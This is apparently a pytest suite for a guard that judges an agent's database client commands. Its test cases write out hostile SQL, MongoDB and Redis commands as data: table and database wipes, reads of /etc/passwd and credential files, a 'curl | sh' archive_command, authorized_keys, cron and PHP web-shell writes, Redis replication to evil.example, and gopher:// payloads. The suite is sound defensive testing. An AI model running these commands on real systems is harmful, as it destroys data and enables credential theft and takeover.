"""Database clients judged end to end: what the SQL, MongoDB or Redis commands an agent sends do,
whatever the client, option order, case, quoting, comments or stdin — and the words that only sit
in a literal or a comment do not count (adr/engine/sqltext.py, rules/cloud.yaml cloud.database-*)."""
from __future__ import annotations

import pytest

from adr.actions import Decision


def _fired(v) -> set[str]:
    return set(v.rule_ids)


# -- SQL: every DROP, emptying DML wherever it hides ---------------------------------------------

@pytest.mark.parametrize("cmd", [
    'psql -c "DROP INDEX idx_users_email"',
    "psql -c 'drop index concurrently if exists idx_a'",
    'psql -c "DROP VIEW IF EXISTS active_users"',
    'psql -c "DROP MATERIALIZED VIEW mv"',
    'mysql -e "DROP FUNCTION f"',
    'mysql -uroot -e"DROP PROCEDURE p"',
    'psql -c "DROP SCHEMA IF EXISTS app CASCADE"',
    'psql -c "DROP TRIGGER trg ON users"',
    'psql -c "DROP SEQUENCE users_id_seq"',
    'psql -c "DROP ROLE readonly"',
    'psql -c "DROP USER IF EXISTS bob"',
    'psql -c "Drop/**/Table users"',
    "psql -c 'drop\ntable users'",
    'psql -c "WITH d AS (DELETE FROM users) SELECT 1"',
    'psql -c "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d"',
    'psql -c "DELETE FROM users RETURNING *"',
    'psql -c "WITH x AS (SELECT 1) DELETE FROM users"',
    'psql -c "COPY (DELETE FROM users RETURNING *) TO STDOUT"',
    'psql -c "EXPLAIN ANALYZE DELETE FROM users"',
    'psql -c "PREPARE wipe AS DELETE FROM users; EXECUTE wipe"',
    'psql -c "UPDATE users SET pw = (SELECT x FROM y WHERE id = 1)"',  # the WHERE is the subquery's
    'psql -c "UPDATE users SET note = \'where are we\'"',                 # the WHERE is a literal
    'psql -c "DELETE FROM users WHERE \'a b\' = \'a b\'"',
    'mysql -e "DELETE users FROM users"',
    'clickhouse-client -q "ALTER TABLE events DELETE WHERE 1"',
    # the statement after a quote or comment that hides nothing
    'psql -c "SELECT \'--\'; DROP TABLE users"',
    "psql -c \"SELECT 'a\\'; DROP TABLE users; --'\"",
    "mysql -e \"SET SESSION sql_mode='NO_BACKSLASH_ESCAPES'; SELECT 'a\\'; DROP TABLE users; --'\"",
    'mysql -e "/*!50000 DROP TABLE users */"',
    "psql -c 'SELECT 1; -- note\nDROP TABLE users'",
    # text the batch runs
    'psql -c "DO \\$\\$ BEGIN EXECUTE \'DROP TABLE users\'; END \\$\\$"',
    'psql -c "SELECT format(\'DROP TABLE %I\', tablename) FROM pg_tables \\gexec"',
    "psql -c \"\\set q 'DROP TABLE users'\" -c ':q'",
    'mysql -e "SET @s = \'DROP TABLE users\'; PREPARE st FROM @s; EXECUTE st"',
    'sqlcmd -Q "EXEC(\'DROP TABLE users\')"',
    'psql -c "CREATE FUNCTION f() RETURNS void AS \\$\\$ DELETE FROM users \\$\\$ LANGUAGE sql; SELECT f()"',
    "psql -At -c \"SELECT 'DROP TABLE ' || tablename || ';' FROM pg_tables\" | psql prod",
    # other clients
    'heroku pg:psql -a app -c "DROP TABLE users"',
    'vsql -c "TRUNCATE TABLE events"',
    'mysqlsh --sql -e "DROP DATABASE shop"',
    'mysqlsh root@db -e "session.runSql(\'DROP TABLE users\')"',
    'clickhouse-client --query="TRUNCATE TABLE users"',
    'cockroach sql --insecure -e "DROP TABLE users"',
    'usql pg://db/app -c "DROP TABLE users"',
    'sqlcmd -S db -Q "DROP TABLE dbo.Users"',
    'bq query --nouse_legacy_sql "DELETE FROM ds.users WHERE true"',
    'snowsql -q "DROP TABLE analytics.events"',
    'duckdb app.duckdb -c "DROP TABLE t"',
    'wrangler d1 execute prod --remote --command "DELETE FROM users"',
    "sqlite3 -cmd 'DROP TABLE users' app.db .quit",
    "mysql --init-command='TRUNCATE t' app",
    "psql app <<'SQL'\nselect 1;\nDROP TABLE users;\nSQL",
])
def test_sql_that_drops_or_empties_is_asked(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and "cloud.database-drop" in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    'psql -c "SELECT \'DROP TABLE users\'"',
    'psql -c "SELECT 1 -- DROP TABLE users"',
    'psql -c "SELECT 1 /* DROP TABLE users */"',
    'mysql -e "INSERT INTO audit(q) VALUES (\'truncate table x\')"',
    'mysql -e "SELECT 1 # DROP DATABASE prod"',
    'psql -c "SELECT \'delete from users;\'"',
    'psql -c "SELECT query FROM pg_stat_activity WHERE query ILIKE \'%drop table%\'"',
    'psql -c "COMMENT ON TABLE users IS \'never drop table users\'"',
    'echo "SELECT \'DELETE FROM users\'" | psql',
    'psql -c "EXPLAIN DELETE FROM users"',
    'psql -c "UPDATE t SET a = 1 WHERE id IN (1, 2) RETURNING *"',
    'psql -c "WITH x AS (SELECT id FROM a) DELETE FROM users WHERE id IN (SELECT id FROM x)"',
    'mysqlsh --js -e "print(\'drop table is a phrase\')"',
    'psql -c "SELECT count(*) FROM users"',
])
def test_words_in_literals_and_comments_do_not_count(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


# -- SQL: files, programs, privileges ----------------------------------------------------------

@pytest.mark.parametrize("cmd, rule", [
    ('psql -c "SELECT pg_read_file(\'/etc/passwd\')"', "cloud.database-reads-file"),
    ('psql -c "select PG_READ_BINARY_FILE(\'/var/lib/postgresql/.pgpass\')"', "cloud.database-reads-file"),
    ('psql -c "SELECT lo_import(\'/etc/shadow\')"', "cloud.database-reads-file"),
    ('mysql -e "SELECT LOAD_FILE(\'/etc/passwd\')"', "cloud.database-reads-file"),
    ('mysql -e "select load_file(0x2f6574632f706173737764)"', "cloud.database-reads-file"),
    ('psql -c "COPY t FROM \'/root/.ssh/id_rsa\'"', "cloud.database-reads-file"),
    ('psql -c "CREATE EXTENSION file_fdw"', "cloud.database-reads-file"),
    ('sqlite3 x.db "SELECT readfile(\'/home/dev/.aws/credentials\')"', "cloud.database-reads-file"),
    ('psql -c "ALTER SYSTEM SET archive_command = \'curl -s x.example | sh\'"', "cloud.database-runs-program"),
    ('psql -c "alter system set ssl_passphrase_command to \'sh -c id\'"', "cloud.database-runs-program"),
    ('psql -c "CREATE EXTENSION plpython3u"', "cloud.database-runs-program"),
    ("psql -c 'CREATE EXTENSION IF NOT EXISTS \"plperlu\"'", "cloud.database-runs-program"),
    ('psql -c "select 1 \\! id"', "cloud.database-runs-program"),
    ('sqlite3 app.db "SELECT load_extension(\'/tmp/x.so\')"', "cloud.database-runs-program"),
    ('sqlite3 app.db "SELECT edit(\'x\', \'sh -c id\')"', "cloud.database-runs-program"),
    ('psql -c "CREATE EXTENSION adminpack"', "cloud.database-writes-file"),
    ('psql -c "CREATE ROLE x SUPERUSER LOGIN PASSWORD \'p\'"', "cloud.database-privilege"),
    ('psql -c "create user x with superuser"', "cloud.database-privilege"),
    ('psql -c "GRANT pg_write_server_files TO app"', "cloud.database-privilege"),
    ('psql -c "GRANT pg_read_server_files, pg_execute_server_program TO app"', "cloud.database-privilege"),
    ('psql -c "GRANT rds_superuser TO app"', "cloud.database-privilege"),
    ('psql -c "grant cloudsqlsuperuser to app"', "cloud.database-privilege"),
    ('psql -c "CREATE EXTENSION IF NOT EXISTS dblink"', "cloud.database-privilege"),
])
def test_server_files_programs_and_privileges_are_asked(judge_command, cmd, rule):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and rule in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    'psql -c "COPY (SELECT \'ssh-ed25519 AAAA\') TO \'/home/dev/.ssh/authorized_keys\'"',
    'psql -c "COPY (SELECT 1) TO \'/var/spool/cron/crontabs/postgres\'"',
    'mysql -e "SELECT \'<?php system(1); ?>\' INTO OUTFILE \'/var/www/html/s.php\'"',
    'sqlite3 app.db "ATTACH DATABASE \'/home/dev/.ssh/authorized_keys\' AS k"',
    'sqlite3 app.db "ATTACH \'file:/root/.ssh/authorized_keys?mode=rwc\' AS k"',
    'sqlite3 app.db "VACUUM INTO \'/var/www/html/x.php\'"',
    'sqlite3 app.db "SELECT writefile(\'/home/dev/.bashrc\', \'curl x | sh\')"',
    'duckdb -c "COPY t TO \'/home/dev/.ssh/authorized_keys\'"',
])
def test_sql_writing_a_login_key_job_or_web_shell_is_denied(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.DENY and "cloud.database-writes-persistence" in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    'psql -c "COPY t FROM \'/tmp/data.csv\' CSV"',
    'mysql -e "LOAD DATA LOCAL INFILE \'data.csv\' INTO TABLE t"',
    'psql -c "ALTER SYSTEM SET work_mem = \'64MB\'"',
    'psql -c "CREATE EXTENSION IF NOT EXISTS pgcrypto"',
    'psql -c "CREATE ROLE app NOSUPERUSER LOGIN"',
    'psql -c "GRANT SELECT ON ALL TABLES IN SCHEMA public TO postgres"',
    'psql -c "GRANT pg_read_all_data TO reporting"',
    'sqlite3 app.db "ATTACH \'other.db\' AS o"',
    'sqlite3 app.db "ATTACH DATABASE \'/tmp/scratch.db\' AS s"',
    'sqlite3 app.db "SELECT writefile(\'out/a.bin\', data) FROM blobs"',
    'duckdb -c "COPY t TO \'out.parquet\' (FORMAT parquet)"',
    'psql -c "SELECT \'pg_read_file(x)\' AS doc"',
    # a write or read spelled only inside a literal
    'mysql -e "SELECT \'x INTO OUTFILE \'\'/root/.ssh/authorized_keys\'\'\'"',
    'psql -c "SELECT \'COPY t FROM \'\'/etc/passwd\'\'\'"',
])
def test_ordinary_sql_stays_allowed(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


# -- MongoDB -----------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd, rule", [
    ("mongosh --quiet --eval 'db.users.deleteMany()'", "cloud.database-drop"),
    ("mongosh --eval 'db.users.deleteMany( { } )'", "cloud.database-drop"),
    ('mongosh --eval "db.users.remove({})"', "cloud.database-drop"),
    ("mongosh --eval='db.users.drop()'", "cloud.database-drop"),
    ('mongosh --eval "db.dropAllUsers()"', "cloud.database-drop"),
    ('mongosh --eval "db.events.aggregate([{\\$match:{}},{\\$out:\'users\'}])"', "cloud.database-drop"),
    ('mongosh --eval "db.o.aggregate([{\\$merge:{into:\'stats\', whenMatched:\'replace\'}}])"', "cloud.database-drop"),
    ('mongosh --eval "db.getSiblingDB(\'prod\').dropDatabase()"', "cloud.database-drop"),
    ('mongosh --eval "db[\'users\'].drop()"', "cloud.database-drop"),
    ('mongosh --eval "db.users[\'drop\']()"', "cloud.database-drop"),
    ("mongo app --eval 'db.getCollectionNames().forEach(c => db[c].drop())'", "cloud.database-drop"),
    ("mongosh app <<'JS'\ndb.sessions.deleteMany({})\nJS", "cloud.database-drop"),
    ("echo 'db.dropDatabase()' | mongosh prod", "cloud.database-drop"),
    ('mongosh --eval "db.users.deleteMany({_id: {\\$ne: null}})"', "cloud.database-drop"),
    ('mongosh admin --eval "db.createUser({user:\'x\', pwd:\'y\', roles:[\'root\']})"', "cloud.database-privilege"),
    ('mongosh admin --eval "db.grantRolesToUser(\'app\', [\'userAdminAnyDatabase\'])"', "cloud.database-privilege"),
])
def test_mongodb_drops_empties_and_admins_are_asked(judge_command, cmd, rule):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and rule in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    'mongosh --eval "db.users.find({}).limit(5)"',
    'mongosh --eval "db.users.deleteMany({status: \'stale\'})"',
    'mongosh --eval "db.users.countDocuments({})"',
    'mongosh admin --eval "db.createUser({user:\'ro\', pwd:\'x\', roles:[{role:\'read\', db:\'app\'}]})"',
])
def test_ordinary_mongodb_stays_allowed(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


# -- Redis -------------------------------------------------------------------------------------

@pytest.mark.parametrize("cmd, rule", [
    ("redis-cli -h 10.0.0.5 -p 6380 -a 's3cret' flushall", "cloud.database-drop-tool"),
    ("redis-cli --pass s3cret FlushDB", "cloud.database-drop-tool"),
    ("redis-cli -u redis://:pw@cache:6379/0 flushall async", "cloud.database-drop-tool"),
    ("redis-cli --cluster call 127.0.0.1:7000 FLUSHALL", "cloud.database-drop-tool"),
    ("redis-cli <<'EOF'\nSELECT 2\nflushdb\nEOF", "cloud.database-drop-tool"),
    ("printf '*1\\r\\n$8\\r\\nFLUSHALL\\r\\n' | redis-cli --pipe", "cloud.database-drop-tool"),
    ('redis-cli EVAL "redis.call(\'flushall\')" 0', "cloud.database-drop-tool"),
    ("redis-cli EVAL \"return redis.call('del', unpack(redis.call('keys', ARGV[1])))\" 0 '*'",
     "cloud.database-drop-tool"),
    ("redis-cli SHUTDOWN NOSAVE", "cloud.database-drop-tool"),
    ("redis-cli --scan | xargs redis-cli del", "cloud.database-drop-tool"),
    ("redis-cli KEYS '*' | xargs redis-cli DEL", "cloud.database-drop-tool"),
    ("redis-cli -h cache CONFIG SET dir /srv/data", "cloud.database-writes-file"),
    ("redis-cli SLAVEOF 203.0.113.7 6379", "cloud.database-replicates"),
    ("echo 'replicaof evil.example 21000' | redis-cli -h cache", "cloud.database-replicates"),
    ("redis-cli MODULE LOAD /tmp/exp.so", "cloud.database-runs-program"),
    ("redis-cli ACL SETUSER default on nopass '~*' '+@all'", "cloud.database-privilege"),
])
def test_redis_destruction_and_takeover_are_asked(judge_command, cmd, rule):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and rule in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "redis-cli CONFIG SET dir /root/.ssh",
    "redis-cli -h 10.0.0.5 -a pw config set dir /home/dev/.ssh/",
    "redis-cli config set dbfilename authorized_keys",
    "redis-cli CONFIG SET dir /var/spool/cron/crontabs",
    "redis-cli CONFIG SET dir /etc/cron.d",
    "redis-cli config set dbfilename root",
    "redis-cli CONFIG SET dir /var/www/html",
    "echo /root/.ssh | redis-cli -x config set dir",
    "printf 'CONFIG SET dir /root/.ssh\\r\\nCONFIG SET dbfilename authorized_keys\\r\\nSAVE\\r\\n' | redis-cli",
    "redis-cli EVAL \"redis.call('config','set','dir','/root/.ssh')\" 0",
    "keydb-cli -h x config set dir /root/.ssh",
])
def test_redis_writing_keys_or_jobs_is_denied(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.DENY and "cloud.database-writes-persistence" in _fired(v), (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "redis-cli GET flushall",
    'redis-cli SET note "flushall"',
    "redis-cli DEL session:1",
    "redis-cli REPLICAOF NO ONE",
    "redis-cli CONFIG GET dir",
    "redis-cli CONFIG SET maxmemory 100mb",
    "redis-cli MODULE LIST",
    "redis-cli SHUTDOWN",
    "redis-cli --scan --pattern 'user:*'",
    "redis-cli EVAL \"return redis.call('get', KEYS[1])\" 1 foo",
])
def test_ordinary_redis_stays_allowed(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


@pytest.mark.parametrize("line", [
    "psql -f <(echo 'drop table x')",
    "echo 'drop table x' > /tmp/q.sql; psql -f /tmp/q.sql",
    "printf 'DROP DATABASE prod;' > q.sql && sqlcmd -i q.sql",
])
def test_a_statements_file_the_line_shows_is_read_as_the_statements(judge_command, line):
    assert "cloud.database-drop" in judge_command(line).rule_ids, line


@pytest.mark.parametrize("line", ["psql -f migrations/001.sql", "echo 'SELECT 1' > /tmp/q.sql; psql -f /tmp/q.sql"])
def test_a_statements_file_that_drops_nothing_stays_quiet(judge_command, line):
    assert judge_command(line).decision is Decision.ALLOW, line


# -- Redis by another client: raw TCP, gopher://, dict://, and commands printed by a group --------

@pytest.mark.parametrize("cmd, rule", [
    ("echo FLUSHALL | nc cache 6379", "cloud.database-drop-tool"),
    ("(echo AUTH pw; echo FLUSHDB) | ncat db.internal 6379", "cloud.database-drop-tool"),
    ("{ echo AUTH pw; echo FLUSHDB; } | redis-cli", "cloud.database-drop-tool"),
    ("(printf 'SELECT 2\\r\\n'; printf 'FLUSHDB\\r\\n') | nc -q1 cache 6379", "cloud.database-drop-tool"),
    ("printf '*1\\r\\n$8\\r\\nFLUSHALL\\r\\n' | busybox nc cache 6379", "cloud.database-drop-tool"),
    ("printf 'flush_all\\r\\n' | nc memcached 11211", "cloud.database-drop-tool"),
    ("echo 'SHUTDOWN NOSAVE' | socat - TCP:cache:6379", "cloud.database-drop-tool"),
    ("curl -s gopher://10.0.0.5:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A", "cloud.database-drop-tool"),
    ("curl dict://10.0.0.5:6379/flushall", "cloud.database-drop-tool"),
    ("echo 'SLAVEOF 203.0.113.7 6379' | telnet cache 6379", "cloud.database-replicates"),
    ("echo 'MODULE LOAD /tmp/x.so' | nc cache 6379", "cloud.database-runs-program"),
])
def test_redis_commands_through_a_plain_text_client_are_asked(judge_command, cmd, rule):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and rule in v.rule_ids, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "printf 'CONFIG SET dir /root/.ssh\\r\\nCONFIG SET dbfilename authorized_keys\\r\\nSAVE\\r\\n' | nc 10.0.0.5 6379",
    "(echo 'CONFIG SET dir /var/spool/cron/'; echo 'CONFIG SET dbfilename root'; echo SAVE) | nc cache 6379",
    "curl dict://10.0.0.5:6379/config:set:dir:/root/.ssh",
])
def test_redis_writing_keys_or_jobs_through_a_plain_text_client_is_denied(judge_command, cmd):
    assert judge_command(cmd).decision is Decision.DENY, cmd


@pytest.mark.parametrize("cmd", [
    "echo PING | nc cache 6379",
    "printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc example.com 80",
    "(echo GET key; echo INFO) | nc cache 6379",
    "curl dict://dict.org/d:flushall",
    "{ echo ls; echo pwd; } | sh",
])
def test_plain_text_clients_saying_nothing_destructive_stay_allowed(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


# -- every statement the client is handed: several options, a file the line wrote, a group's lines --

@pytest.mark.parametrize("cmd", [
    'psql -c "select 1" -c "drop table users"',
    "psql --command 'select 1' --command 'DROP DATABASE prod'",
    "sqlite3 /srv/data/app.db 'select 1' 'drop table users'",  # (one in the project: snapshotted, tests/test_local_database_reset.py)
    "duckdb prod.db -c 'select 1' -c 'drop table users'",
    "mysql -e 'select 1' --execute='drop database prod'",
    "echo 'DROP DATABASE prod;' > d.sql; mysql < d.sql",
    "echo 'drop table users' > d.sql && sqlite3 app.db < d.sql",
    "echo FLUSHALL > c; redis-cli < c",
    "{ echo FLUSHALL; sleep 1; } | nc localhost 6379",
    "(echo 'select 1;'; sleep 0; echo 'DROP TABLE users;') | mysql",
])
def test_every_statement_handed_over_is_read(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and any(r.startswith("cloud.database-drop") for r in v.rule_ids), \
        (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "psql -c 'select 1' -c 'select 2'",
    "echo 'SELECT 1;' > q.sql; mysql < q.sql",
    "{ echo PING; sleep 1; } | nc localhost 6379",
])
def test_several_harmless_statements_stay_quiet(judge_command, cmd):
    assert judge_command(cmd).decision is Decision.ALLOW, cmd


@pytest.mark.parametrize("cmd", [
    "echo 'DROP TABLE users;' | docker exec -i pg psql -U postgres",
    "docker exec -i pg psql -U postgres <<< 'DROP TABLE users;'",
    "echo 'DROP TABLE users;' | podman exec --interactive pg psql",
    "echo FLUSHALL | docker exec -i redis redis-cli",
    "echo FLUSHALL | kubectl exec -i redis-0 -- redis-cli",
    "echo FLUSHALL | kubectl exec --stdin redis-0 -- redis-cli",
])
def test_stdin_handed_into_a_container_reaches_its_client(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW and any(r.startswith("cloud.database-drop") for r in v.rule_ids), \
        (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", ["echo 'SELECT 1;' | docker exec -i pg psql -U postgres",
                                 "echo FLUSHALL | docker exec pg cat"])  # (no -i: the container reads nothing)
def test_harmless_or_unread_container_stdin_stays_quiet(judge_command, cmd):
    assert judge_command(cmd).decision is Decision.ALLOW, cmd
